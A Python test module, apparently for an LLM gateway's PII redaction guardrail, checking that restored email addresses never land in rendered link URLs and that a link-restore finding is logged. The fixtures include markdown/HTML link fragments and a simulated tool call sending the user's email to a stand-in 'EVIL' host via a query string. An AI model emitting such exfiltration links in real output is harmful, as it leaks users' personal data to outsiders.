"""Review findings 1 and 7 on the link-safe restore: what a CommonMark renderer (markdown-it,
which ``rich`` in the base dependencies brings) makes of a restored answer never puts the
caller's value in a link's ``href``/``src`` (whatever markdown the model writes around a
placeholder), and a ``restore_in_link`` finding raised by what a stream held to its end
(a native Responses stream whose call arguments come only in ``response.completed``) is in
the ledger entry."""

from __future__ import annotations

import copy
import json
import re
from html import unescape
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from fakes import Reply
from fakes.responses_upstream import ResponsesUpstream, events, frame, function_call, message
from fakes.responses_upstream import usage as upstream_usage
from farebox.core.guardrails import Hit
from farebox.gateway.guard_output import IN_LINK
from farebox.guardrails.links import WINDOW
from farebox.guardrails.placeholders import Redactor
from tests.guard_world import EMAIL, MODEL, plan
from tests.test_guardrails_restore_links import EVIL, PII, sdks

URL_ATTRS = {"href", "src", "srcset", "action", "formaction", "poster", "background", "cite"}
PIECES = ["<EMAIL_1>", "[a]", "![a]", "(", ")", "<", ">", "]:", "](", "[r]: ", "\n", "\n\n", " ",
          "\\", "\\\n", "x", '"', "'", EVIL, "/?q=", "evil.example", "https:", "//", "?b=",
          '<img src="', "<a href=", " = ", "[r]", "`", "mailto:", "%20", "\t", "&amp;"]  # fmt: skip
ANSWERS = st.lists(st.sampled_from(PIECES), max_size=30).map("".join)


_URL_ATTR = re.compile(
    rf"(?<![\w-])(?:{'|'.join(URL_ATTRS)})\s*=\s*(\"[^\"]*\"|'[^']*'|[^\s\"'>]+)", re.IGNORECASE
)


_TAG = re.compile(r"<[a-zA-Z](?:\"[^\"]*\"|'[^']*'|[^'\">])*>")


def _urls(html: str) -> list[str]:
    """The values of the URL attributes of the tags in an HTML text (read strictly: one
    written inside another's value counts too)."""
    found = (_URL_ATTR.finditer(tag.group(0)) for tag in _TAG.finditer(html))
    return [unescape(m.group(1).strip("\"'")) for ms in found for m in ms]


def _leaks(url: str) -> bool:
    """Whether a rendered URL carries the value (a ``mailto:`` of the value alone, the
    autolink ``<value>``, sends it to no one)."""
    return EMAIL in url and url != f"mailto:{EMAIL}"


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ANSWERS, ANSWERS, st.sampled_from([0, WINDOW - 40]))
def test_a_rendered_restored_answer_never_links_the_value(
    before: str, after: str, pad: int
) -> None:
    r = Redactor()
    r.redact(EMAIL, [Hit("pii", "EMAIL_ADDRESS", 1.0, 0, len(EMAIL))])
    answer = "w " * (pad // 2) + before + "<EMAIL_1>" + after
    restored, _ = r.restored(answer, links=False)
    md = MarkdownIt("commonmark")
    for html in (md.render(restored), restored):  # what markdown makes, and raw HTML
        assert not [u for u in _urls(html) if _leaks(u)], (answer, html)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ANSWERS, ANSWERS)
def test_a_rendered_restored_tool_argument_never_links_the_value(before: str, after: str) -> None:
    r = Redactor()
    r.redact(EMAIL, [Hit("pii", "EMAIL_ADDRESS", 1.0, 0, len(EMAIL))])
    # JSON-escaped as a model may write it: ``\/`` for ``/``, ``\u003a`` for ``:``
    content = json.dumps(before + "\x00" + after)[1:-1].replace("/", "\\/")
    content = content.replace(":", "\\u003a").replace("\\u0000", "<EMAIL_1>")
    raw = '{"md": "' + content + '"}'
    restored, _ = r.restored(raw, links=False, json=True)
    text = json.loads(restored)["md"]
    assert not [u for u in _urls(MarkdownIt("commonmark").render(text)) if _leaks(u)], raw


async def test_a_finding_raised_by_the_final_event_of_a_stream_is_in_its_entry(
    make_gateway: Any,
) -> None:
    """Native Responses: the call's arguments come only in ``response.completed`` (no
    argument events), so restoring them is what raises ``restore_in_link``."""
    arguments = {"url": f"{EVIL}/?q=<EMAIL_1>", "to": "<EMAIL_1>"}
    sent = events([message("Sent.")], upstream_usage())
    final = copy.deepcopy(sent[-1])
    final["response"]["output"].append(function_call("call_1", "fetch", arguments, "fc_up_2"))
    async with ResponsesUpstream() as up:
        providers = {"native": {"kind": "openai", "base_url": up.base_url, "responses": "native"}}
        models = {MODEL: [{"provider": "native", "model": MODEL}]}
        cfg = {"providers": providers, "models": models, "plans": {"restore": plan({"pii": PII})}}
        async with make_gateway(cfg) as gw:
            oai, _ = sdks(gw, await gw.tenant_key("acme", plan="restore"))
            up.push(Reply(frames=[frame(e) for e in [*sent[:-1], final]]))
            done = None
            async for event in await oai.responses.create(
                model=MODEL, input=f"I am {EMAIL}", stream=True, store=False
            ):
                if event.type == "response.completed":
                    done = event.response
            assert done is not None
            (call,) = [i for i in done.output if i.type == "function_call"]
            assert json.loads(call.arguments) == {**arguments, "to": EMAIL}
            (entry,) = await gw.ledger("acme")
            assert IN_LINK in [f["category"] for f in entry.guardrails]
